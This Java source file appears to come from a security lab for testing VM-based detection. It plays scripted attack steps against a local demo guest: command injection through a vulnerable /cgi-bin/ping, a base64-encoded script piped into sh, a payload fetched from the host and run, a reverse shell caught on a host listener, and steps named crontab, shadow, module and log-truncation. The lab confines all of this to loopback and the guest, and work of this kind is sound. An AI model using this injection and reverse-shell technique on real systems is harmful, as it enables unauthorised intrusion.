package io.vmiscope.guest;

import com.sun.net.httpserver.HttpServer;

import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Base64;
import java.util.List;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.ExecutionException;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.TimeoutException;

/**
 * The lab's attack scenarios (docs/detection.md, "Live scenarios") played from the host against a running demo
 * guest, as an attacker would: each step runs the scenario script ({@code lab/attack-scenarios.sh}, the one file
 * that says what each step does) through the command injection of the guest's {@code /cgi-bin/ping}, over its
 * forwarded HTTP port. The host side that the steps need listens on 127.0.0.1 only, which the guest reaches as
 * {@value #GUEST_SEES_HOST_AS} through QEMU's user networking: an HTTP server with the payload that step
 * {@code download} fetches, and the listener that step {@code reverse-shell} connects back to (it sends {@code id}
 * and {@code exit} and keeps what comes back).
 *
 * <p>{@link #close()} stops both. Not thread-safe: one step at a time.
 */
public final class LabAttack implements AutoCloseable {

    /** The steps, in the order a whole run plays them. */
    public static final List<String> STEPS = List.of("injection", "download", "reverse-shell", "crontab", "shadow",
            "module", "log-truncation");

    /** The host's loopback as QEMU's user networking shows it to the guest. */
    public static final String GUEST_SEES_HOST_AS = "10.0.2.2";

    /** What step {@code download} fetches and runs: a harmless script. */
    static final String PAYLOAD = "#!/bin/sh\necho \"lab payload ran as uid $(id -u)\"\n";

    private static final String SCRIPT = "lab/attack-scenarios.sh";
    private static final Duration STEP_TIMEOUT = Duration.ofSeconds(60);
    private static final int MAX_TRANSCRIPT_BYTES = 64 * 1024;

    /** What one step did: when it was sent (host's {@link System#nanoTime()}), how long it took, what it printed. */
    public record StepResult(String step, long sentNanos, Duration took, String output) {
    }

    private final URI vulnerable;
    private final HttpServer payloadServer;
    private final ServerSocket listener;
    private final HttpClient http = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(30)).build();
    private final byte[] script;

    private LabAttack(int guestHttpPort, HttpServer payloadServer, ServerSocket listener) {
        this.vulnerable = URI.create("http://127.0.0.1:" + guestHttpPort + "/cgi-bin/ping");
        this.payloadServer = payloadServer;
        this.listener = listener;
        this.script = script();
    }

    /**
     * Starts the host side (payload server and listener on free loopback ports) for the guest whose port 80 is
     * forwarded to {@code guestHttpPort} on the host's loopback.
     *
     * @throws UncheckedIOException when a loopback port cannot be opened
     */
    public static LabAttack start(int guestHttpPort) {
        InetAddress loopback = InetAddress.getLoopbackAddress();
        HttpServer server = null;
        try {
            server = HttpServer.create(new InetSocketAddress(loopback, 0), 0);
            server.createContext("/lab-payload", exchange -> {
                byte[] body = PAYLOAD.getBytes(StandardCharsets.UTF_8);
                exchange.sendResponseHeaders(200, body.length);
                try (OutputStream out = exchange.getResponseBody()) {
                    out.write(body);
                }
            });
            server.start();
            ServerSocket listener = new ServerSocket(0, 1, loopback);
            return new LabAttack(guestHttpPort, server, listener);
        } catch (IOException e) {
            if (server != null) {
                server.stop(0);
            }
            throw new UncheckedIOException("cannot listen on the host's loopback for the lab: " + e.getMessage(), e);
        }
    }

    /**
     * Plays one step and returns what the guest answered (for {@code reverse-shell}: what the shell answered on the
     * listener, within a minute).
     *
     * @throws IllegalArgumentException for an unknown step
     * @throws IllegalStateException    when the guest's web service does not answer 200
     */
    public StepResult run(String step) {
        if (!STEPS.contains(step)) {
            throw new IllegalArgumentException("unknown step '" + step + "'; steps: " + String.join(", ", STEPS));
        }
        CompletableFuture<String> shell = step.equals("reverse-shell") ? acceptShell() : null;
        long sent = System.nanoTime();
        String answer = inject("echo " + Base64.getEncoder().encodeToString(script) + "|base64 -d|LAB_HOST="
                + GUEST_SEES_HOST_AS + " LAB_HTTP_PORT=" + payloadServer.getAddress().getPort() + " LAB_SHELL_PORT="
                + listener.getLocalPort() + " sh -s " + step);
        String output = shell == null ? answer : transcript(shell);
        return new StepResult(step, sent, Duration.ofNanos(System.nanoTime() - sent), output);
    }

    /** Requests {@code /cgi-bin/ping?host=127.0.0.1;COMMAND}: the flaw runs COMMAND in the CGI's shell. */
    private String inject(String command) {
        URI uri = URI.create(vulnerable + "?host=" + URLEncoder.encode("127.0.0.1;" + command, StandardCharsets.UTF_8));
        try {
            HttpResponse<String> answer = http.send(HttpRequest.newBuilder(uri).timeout(STEP_TIMEOUT).build(),
                    HttpResponse.BodyHandlers.ofString());
            if (answer.statusCode() != 200) {
                throw new IllegalStateException("the guest's /cgi-bin/ping answered " + answer.statusCode());
            }
            return answer.body();
        } catch (IOException e) {
            throw new UncheckedIOException("cannot reach the guest's web service at " + vulnerable + ": "
                    + e.getMessage(), e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException("interrupted while waiting for the guest's web service", e);
        }
    }

    /** Accepts the reverse shell's connection, runs {@code id} in it and keeps what it printed (capped). */
    private CompletableFuture<String> acceptShell() {
        return CompletableFuture.supplyAsync(() -> {
            try {
                listener.setSoTimeout((int) STEP_TIMEOUT.toMillis());
                try (Socket s = listener.accept()) {
                    s.setSoTimeout((int) STEP_TIMEOUT.toMillis());
                    s.getOutputStream().write("id\nexit\n".getBytes(StandardCharsets.US_ASCII));
                    s.getOutputStream().flush();
                    InputStream in = s.getInputStream();
                    return new String(in.readNBytes(MAX_TRANSCRIPT_BYTES), StandardCharsets.UTF_8);
                }
            } catch (SocketTimeoutException e) {
                return "no reverse shell connected within " + STEP_TIMEOUT.toSeconds() + " s";
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        });
    }

    private static String transcript(CompletableFuture<String> shell) {
        try {
            return shell.get(STEP_TIMEOUT.toSeconds() + 10, TimeUnit.SECONDS);
        } catch (ExecutionException | TimeoutException e) {
            throw new IllegalStateException("the reverse shell's listener failed: " + e.getMessage(), e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException("interrupted while waiting for the reverse shell", e);
        }
    }

    private static byte[] script() {
        try (InputStream in = LabAttack.class.getResourceAsStream(SCRIPT)) {
            if (in == null) {
                throw new IllegalStateException("resource " + SCRIPT + " missing from the jar");
            }
            return in.readAllBytes();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    @Override
    public void close() {
        payloadServer.stop(0);
        try {
            listener.close();
        } catch (IOException e) {
            // closing a listening socket that failed leaves nothing behind to clean up
        }
    }
}
